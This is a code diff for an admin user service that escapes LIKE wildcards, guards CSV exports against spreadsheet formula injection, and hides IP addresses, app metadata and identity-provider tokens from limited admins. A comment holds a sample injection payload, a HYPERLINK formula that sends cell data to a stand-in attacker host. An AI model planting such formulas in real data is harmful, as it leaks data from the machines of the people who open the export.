@@ -110,7 +110,10 @@ async def _filter_by(session: AsyncSession, scope: Scope, value: str) -> tuple[s
     if await session.get(Group, value) is None:
         matches = (
             await session.exec(
-                select(Group.id).where(Group.id.like(f"%/{value}"), Group.removed_at.is_(None))
+                select(Group.id).where(
+                    Group.id.like(f"%/{like_literal(value)}", escape="\\"),
+                    Group.removed_at.is_(None),
+                )
             )
         ).all()
         if len(matches) != 1:
@@ -147,11 +150,16 @@ async def select_users(session: AsyncSession, scope: Scope, query: AdminUserQuer
     return Selection(query, platform, group)
 
 
+def like_literal(term: str) -> str:
+    """`term` for a LIKE pattern (escape character `\\`) in which `%`, `_` and `\\`
+    match themselves: `coh%` must not find every group starting with "coh"."""
+    return term.replace("\\", "\\\\").replace("%", "\\%").replace("_", "\\_")
+
+
 def contains(column: sa.ColumnElement[str], term: str) -> sa.ColumnElement[bool]:
     """Case-insensitive "part of" match that the trigram indexes on lower(email) and
     lower(username) answer; `%`, `_` and `\\` in the term match themselves."""
-    escaped = term.lower().replace("\\", "\\\\").replace("%", "\\%").replace("_", "\\_")
-    return sa.func.lower(column).like(f"%{escaped}%", escape="\\")
+    return sa.func.lower(column).like(f"%{like_literal(term.lower())}%", escape="\\")
 
 
 def _where(scope: Scope, selection: Selection) -> list[sa.ColumnElement[bool]]:
@@ -275,19 +283,36 @@ async def _export_rows(
         for user in await _with_memberships(session, scope, rows):
             writer.writerow(
                 [
-                    user.id,
-                    user.email or "",
-                    user.username or "",
+                    safe_cell(user.id),
+                    safe_cell(user.email or ""),
+                    safe_cell(user.username or ""),
                     "true" if user.email_verified else "false",
                     user.created_at.isoformat(),
-                    "; ".join(
-                        f"{m.platform_id}:{m.approval_status}" for m in user.platform_memberships
+                    safe_cell(
+                        "; ".join(
+                            f"{m.platform_id}:{m.approval_status}"
+                            for m in user.platform_memberships
+                        )
                     ),
-                    "; ".join(f"{m.group_id}:{m.approval_status}" for m in user.group_memberships),
+                    safe_cell(
+                        "; ".join(
+                            f"{m.group_id}:{m.approval_status}" for m in user.group_memberships
+                        )
+                    ),
                 ]
             )
         yield _drain(out)
         after = (rows[-1].created_at, rows[-1].id)
+
+
+# A spreadsheet runs a cell starting with one of these as a formula: a sign-up named
+# `=HYPERLINK("https://evil.example/?"&A1, "x")@…` would run on the admin's machine.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def safe_cell(value: str) -> str:
+    """The value as text a spreadsheet shows rather than evaluates."""
+    return "'" + value if value.startswith(FORMULA_STARTS) else value
 
 
 def _drain(buffer: io.StringIO) -> str:
@@ -465,16 +490,27 @@ async def details(
         blocked=bool(profile.get("blocked", user.blocked)),
         connection=user.connection,
         last_login=profile.get("last_login", user.last_login),
-        last_ip=profile.get("last_ip"),
+        # Where the user last signed in from, and what other apps stored about them, are
+        # for general admins only.
+        last_ip=profile.get("last_ip") if scope.everything else None,
         logins_count=profile.get("logins_count"),
-        identities=profile.get("identities") or [],
+        identities=[_identity(i) for i in profile.get("identities") or [] if isinstance(i, dict)],
         user_metadata=profile.get("user_metadata") or {},
-        app_metadata=profile.get("app_metadata") or {},
+        app_metadata=(profile.get("app_metadata") or {}) if scope.everything else {},
         deleted_at=user.deleted_at,
         deletion_reason=user.deletion_reason,
         history=await _user_history(session, user_id),
         membership_history=await _membership_history(session, scope, user_id),
     )
+
+
+# Auth0 puts the identity provider's access and refresh tokens (and its profileData) on
+# each identity of a social or enterprise login; an admin page needs only which.
+IDENTITY_FIELDS = ("provider", "connection", "user_id", "isSocial")
+
+
+def _identity(identity: dict[str, Any]) -> dict[str, Any]:
+    return {key: identity[key] for key in IDENTITY_FIELDS if key in identity}
 
 
 async def _user_history(session: AsyncSession, user_id: str) -> list[UserHistoryEntry]:
